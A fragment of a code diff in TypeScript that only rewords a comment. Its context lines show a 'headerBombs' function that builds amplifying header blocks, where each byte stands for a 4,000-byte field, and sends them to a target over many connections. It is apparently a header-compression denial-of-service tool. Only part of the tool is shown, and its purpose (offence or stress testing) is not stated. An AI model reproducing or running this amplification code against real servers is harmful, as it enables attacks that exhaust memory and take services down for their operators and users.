@@ -195,7 +195,7 @@ function compressed(packed: Buffer): Buffer {
   return bytes;
 }
 
-/** Sends header blocks in which each byte stands for a field of 4,000 bytes. */
+/** Sends header blocks in which each byte represents a field of 4,000 bytes. */
 async function headerBombs(target: Target, connections: number): Promise<void> {
   const field = Buffer.concat([Buffer.of(0x40, 1, 0x78, 127, 0xa1, 0x1e), Buffer.alloc(4000, 0x61)]);
   const bomb = Buffer.concat([FIND_COMMIT, Buffer.alloc(15_000, 0xbe)]);
